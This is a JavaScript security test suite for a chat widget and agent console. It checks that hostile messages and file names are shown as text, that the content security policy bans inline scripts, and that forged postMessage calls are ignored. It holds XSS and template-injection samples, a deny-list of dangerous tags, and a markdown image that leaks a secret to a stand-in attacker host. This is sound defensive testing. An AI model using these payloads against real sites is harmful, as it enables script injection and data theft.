// Whatever a customer, a file or a name says: it is text. Nothing runs, nothing is fetched, nothing breaks the policy.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Agent } from './support/agent.mjs';
import { env, launch, tag, until } from './support/browser.mjs';
import { Customer } from './support/customer.mjs';
import { payloads } from './support/payloads.mjs';

let browser;
before(async () => { browser = await launch(); });
after(() => browser.close());

const clean = (text) => text.replace(/\s+/g, ' ').trim();

test(`${payloads.length} hostile messages are shown as text on both sides`, { timeout: 240_000 }, async () => {
  assert.ok(payloads.length >= 300);
  const mark = tag();
  const customer = await Customer.arrive(browser);
  await customer.open();
  await customer.say(`Can I talk to a human please? ${mark}`);
  await customer.answered(mark);
  const agent = await Agent.signIn(browser, env.maria);
  await agent.open(mark);
  await agent.takeOver();
  // Many in one message, so that a desk's limit on messages is not what is tested.
  const groups = Array.from({ length: Math.ceil(payloads.length / 60) }, (_, i) => payloads.slice(i * 60, i * 60 + 60).join('\n'));
  assert.ok(groups.every((group) => Buffer.byteLength(group) < 16_000), 'each fits into a message');
  for (const [at, group] of groups.entries()) {
    await customer.say(`${group}\nend${at} ${mark}`);
    await customer.hears(`end${at} ${mark}`, 'customer');
  }
  await agent.sees(`end${groups.length - 1} ${mark}`, 'customer');
  // The agent sends the same back, which puts it into the widget as another's words.
  for (const at of groups.keys()) {
    await agent.reply(`${groups[at]}\nback${at} ${mark}`);
    await customer.hears(`back${at} ${mark}`, 'agent');
  }
  await agent.note(`${groups[1]}\nnoted ${mark}`);
  await until('the note stands', () => agent.page.locator('.note:not(.pending)', { hasText: `noted ${mark}` }).count());

  const shown = clean((await customer.texts()).join(' '));
  for (const sample of ['<img src=x onerror=pwned(1)>', '<svg onload=top.pwned(1)>', 'javascript:pwned(1)', '![leak](https://attacker.example/?q=secret)']) assert.ok(shown.includes(sample), `"${sample}" is shown as it was written`);
  for (const side of [customer.frame.locator('.lines'), agent.page.locator('.timeline')]) {
    const foreign = await side.evaluate((root) => ({
      elements: [...new Set([...root.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()))].filter((t) => ['script', 'img', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'video', 'audio', 'math', 'template', 'details', 'marquee', 'animate', 'input', 'select', 'textarea'].includes(t)),
      handlers: [...root.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
      links: [...root.querySelectorAll('a')].map((a) => a.href).filter((href) => !/^(https?|mailto):/.test(href)),
      loose: [...root.querySelectorAll('a[target=_blank]')].filter((a) => !/noopener/.test(a.rel) || !/noreferrer/.test(a.rel)).length,
    }));
    assert.deepEqual(foreign, { elements: [], handlers: [], links: [], loose: 0 });
  }
  await customer.page.reload();
  await customer.open();
  await customer.hears(`end${groups.length - 1} ${mark}`);
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.deepEqual([...customer.caught, ...agent.caught], []);
  await customer.close();
  await agent.close();
});

test('hostile names and file names are text too', { timeout: 120_000 }, async () => {
  const api = (await browser.newContext()).request;
  const agent = await Agent.signIn(browser, env.maria);
  const hostile = ['<img src=x onerror=pwned(1)>', '"><script>pwned(1)</script>', '\u202e<svg onload=pwned(1)>', "{{constructor.constructor('pwned(1)')()}}", "';pwned(1)//", 'https://attacker.example/'];
  for (const name of hostile) {
    const mark = tag();
    const opened = await api.post(`${env.url}/chat/v1/sessions`, { data: { locale: 'en', page: `https://site.example/${name}`, form: { name, email: 'x@site.example' } } });
    assert.equal(opened.status(), 201, await opened.text());
    const { token } = await opened.json();
    const headers = { Authorization: `Bearer ${token}` };
    const file = await api.post(`${env.url}/chat/v1/uploads`, { headers, multipart: { file: { name: `${name.replaceAll('/', '')}.txt`, mimeType: 'text/plain', buffer: Buffer.from('<script>pwned(1)</script>') } } });
    const attachments = file.ok() ? [(await file.json()).id] : [];
    const sent = await api.post(`${env.url}/chat/v1/messages`, { headers, data: { id: crypto.randomUUID(), text: `Can I talk to a human please? ${mark}`, attachments } });
    assert.ok([200, 202].includes(sent.status()), await sent.text());
    await agent.open(mark);
    await agent.page.locator('.side').first().waitFor();
    const customer = await Customer.arrive(browser, { path: '/console' });
    await customer.page.evaluate((it) => { localStorage.clear(); localStorage.setItem('deskhand:token', it); }, token);
    await customer.page.goto(env.url);
    await customer.open();
    await customer.hears(mark, 'customer');
    assert.deepEqual(customer.caught, []);
    await customer.close();
  }
  await agent.page.getByRole('link', { name: 'Tickets' }).click();
  await agent.page.getByRole('heading', { name: 'Tickets' }).waitFor();
  assert.deepEqual(agent.caught, []);
  await agent.close();
});

test('every page forbids inline scripts and styles', async () => {
  const api = (await browser.newContext()).request;
  for (const path of ['/', '/widget/', '/console', '/console/queue']) {
    const policy = (await api.get(env.url + path)).headers()['content-security-policy'] ?? '';
    assert.match(policy, /default-src 'self'|default-src 'none'/, path);
    assert.doesNotMatch(policy, /unsafe-inline|unsafe-eval|\*\s*;|https:/, path);
  }
  for (const path of ['/console', '/']) {
    const policy = (await api.get(env.url + path)).headers()['content-security-policy'] ?? '';
    assert.match(policy, /frame-ancestors 'none'|frame-ancestors 'self'/, `${path} may not be framed by others`);
  }
});

test('a page that is not the embedding one cannot speak to the widget', async () => {
  const customer = await Customer.arrive(browser);
  await customer.open();
  await customer.say('hello');
  await customer.answered('hello');
  // A window with the right words but the wrong place: the iframe's own window posts to itself.
  await customer.frame.locator('body').evaluate(() => {
    window.postMessage({ deskhand: 'shutdown' }, '*');
    window.postMessage({ deskhand: 'identify', identity: 'forged' }, '*');
  });
  await customer.page.evaluate(() => window.postMessage({ deskhand: 'close' }, '*'));
  await new Promise((resolve) => setTimeout(resolve, 300));
  assert.equal(await customer.launcher.getAttribute('aria-expanded'), 'true', 'the panel stays open');
  await customer.say('still here');
  await customer.hears('still here', 'customer');
  await customer.close();
});
